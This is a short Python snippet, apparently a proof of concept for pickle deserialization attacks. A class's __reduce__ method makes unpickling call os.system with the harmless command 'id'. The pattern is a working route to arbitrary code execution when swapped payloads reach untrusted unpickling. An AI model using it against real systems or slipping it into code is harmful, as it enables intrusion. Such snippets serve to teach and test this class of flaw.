import base64, pickle

class Trick:
    def __reduce__(self):
        import os
        return (os.system, ("id",))

pickle.loads(base64.b64decode(base64.b64encode(pickle.dumps(Trick()))))
